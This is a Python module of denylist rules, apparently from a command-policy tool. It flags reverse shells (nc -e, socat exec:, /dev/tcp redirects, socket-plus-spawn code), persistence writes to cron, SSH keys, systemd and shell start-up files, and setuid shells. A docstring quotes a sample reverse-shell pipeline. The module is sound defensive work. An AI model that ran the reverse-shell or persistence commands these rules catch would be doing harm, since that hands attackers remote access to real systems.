"""Denylist rules: reverse shells and persistence (cron, ssh keys, systemd units, shell start-up files)."""

from __future__ import annotations

import re
from collections.abc import Sequence

from piloto.policy import paths, unwrap
from piloto.policy.models import SimpleCommand
from piloto.policy.rules_files import show, split_args, written_paths

# Files and trees that run code later, at log-in, boot or on a schedule.
_PERSIST = re.compile(
    r"(^|/)\.ssh/(authorized_keys2?|rc|config)$|^/etc/cron|^/var/spool/cron|^/etc/anacrontab"
    r"|^/etc/systemd/|^/(usr/)?lib/systemd/system|/\.config/systemd/|^/etc/init\.d/|^/etc/rc\.local"
    r"|^/etc/rc\d\.d/|^/etc/profile|^/etc/bash\.bashrc|^/etc/environment$|^/etc/update-motd\.d/"
    r"|^/etc/ld\.so\.preload|^/etc/sudoers|^/etc/xdg/autostart|/\.config/autostart/"
    r"|(^|/)\.(bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|zlogin"
    r"|kshrc|cshrc|tcshrc|inputrc|xinitrc|xprofile|pam_environment)$"
    r"|^/etc/(udev/rules\.d|modprobe\.d|modules-load\.d|apt/apt\.conf\.d|yum/pluginconf\.d)/"
    r"|(^|/)\.git/hooks/|^/etc/logrotate\.d/|^/etc/NetworkManager/dispatcher\.d/"
)
_REVERSE_FLAGS = {
    "nc": ("-e", "-c"),
    "ncat": ("-e", "-c", "--exec", "--sh-exec", "--lua-exec"),
    "netcat": ("-e", "-c"),
    "nc.traditional": ("-e", "-c"),
    "nc.openbsd": ("-e", "-c"),
}


def persistence(cmd: SimpleCommand) -> str | None:
    """Writes to cron, authorized_keys, systemd units, init scripts and shell start-up files."""
    for word in written_paths(cmd):
        resolved = paths.resolve(word, cmd.cwd)
        if _PERSIST.search(resolved) or _PERSIST.search(word):
            return (
                f"`{show(cmd)}` writes {word}, which runs code at log-in, at boot or on a "
                "schedule (persistence); change it by hand if it is really needed"
            )
    if cmd.name == "crontab":
        options, operands = split_args(cmd.args)
        installs = operands or "-" in cmd.args
        if installs and not options & {"-l", "-e", "-r"}:
            return f"`{show(cmd)}` installs cron jobs (persistence); edit them by hand if needed"
    if cmd.name in ("systemctl",) and split_args(cmd.args)[1][:1] in (["link"], ["edit"]):
        return f"`{show(cmd)}` adds or rewrites a systemd unit (persistence)"
    return None


def reverse_shell(cmd: SimpleCommand) -> str | None:
    """nc -e, ncat --exec, socat exec:, a shell wired to /dev/tcp: a shell for someone else."""
    flags = _REVERSE_FLAGS.get(cmd.name)
    if flags and any(
        a == f or (a.startswith(f) and not a.startswith("--")) or a.startswith(f + "=")
        for a in cmd.args
        for f in flags
    ):
        return f"`{show(cmd)}` hands a shell to a network connection (a reverse shell)"
    if cmd.name == "socat" and any(
        re.match(r"(exec|system|pty)[:,]", a, re.I) or ",exec" in a.lower() for a in cmd.args
    ):
        return f"`{show(cmd)}` runs a program on a network connection (a reverse shell)"
    sockets = [r for r in cmd.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/"))]
    runs_code = (
        cmd.name in unwrap.SHELLS or unwrap.is_interpreter(cmd.name) or cmd.name in ("exec", "")
    )
    if sockets and (runs_code or any(r.op in ("<", "<>") for r in sockets)):
        return f"`{show(cmd)}` wires a shell to a network connection (a reverse shell)"
    if any("/dev/tcp/" in a or "/dev/udp/" in a for a in cmd.args) and (
        cmd.name in unwrap.SHELLS or unwrap.is_interpreter(cmd.name)
    ):
        return f"`{show(cmd)}` opens a network connection from a shell (a reverse shell)"
    return None


def code_reverse_shell(records: Sequence[SimpleCommand]) -> str | None:
    """Interpreter code that connects a socket to a shell (`socket…subprocess/pty.spawn/exec`)."""
    for cmd in records:
        for text in cmd.code:
            lowered = text.lower()
            connects = (
                "socket" in lowered
                or "tcpsocket" in lowered
                or "fsockopen" in lowered
                or "net.connect" in lowered
            )
            spawns = re.search(
                r"pty\.spawn|/bin/(ba)?sh|subprocess|os\.dup2|exec\s*\(|spawn\(|child_process|proc_open|popen",
                lowered,
            )
            if connects and spawns:
                return f"the {cmd.name} code connects a shell to a network socket (a reverse shell)"
    return None


_SETUID = re.compile(r"([ugoa]*\+[rwxXt]*s[rwxXst]*|[0-7]?[4-7][0-7]{3})")


def setuid_shell(cmd: SimpleCommand) -> str | None:
    """chmod u+s / 4755 on a shell, an interpreter or a system binary: a root shell for anyone."""
    if cmd.name not in ("chmod", "install"):
        return None
    modes = [a for a in cmd.args if _SETUID.fullmatch(a.removeprefix("-m"))]
    if not modes:
        return None
    for target in split_args(cmd.args)[1]:
        base = unwrap.basename(target)
        resolved = paths.resolve(target, cmd.cwd)
        if (
            base in unwrap.SHELLS
            or unwrap.is_interpreter(base)
            or resolved.startswith(
                ("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/")
            )
        ):
            return f"`{show(cmd)}` makes {target} run as its owner for anyone (setuid)"
    return None


_NETWORK = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat"})


def shell_in_network_pipe(records: Sequence[SimpleCommand]) -> str | None:
    """`cat f | sh -i 2>&1 | nc host 4444 > f`: a shell whose input and output cross the network."""
    for cmd in records:
        if not cmd.stdin_code or cmd.name not in unwrap.SHELLS:
            continue
        peers = [r for r in records if r.pipeline == cmd.pipeline and r is not cmd]
        if any(r.name in _NETWORK for r in peers):
            return (
                f"`{show(cmd)}` is wired to a network connection in its pipeline (a reverse shell)"
            )
    return None


RULES = (persistence, reverse_shell, setuid_shell)
CROSS_RULES = (code_reverse_shell, shell_in_network_pipe)
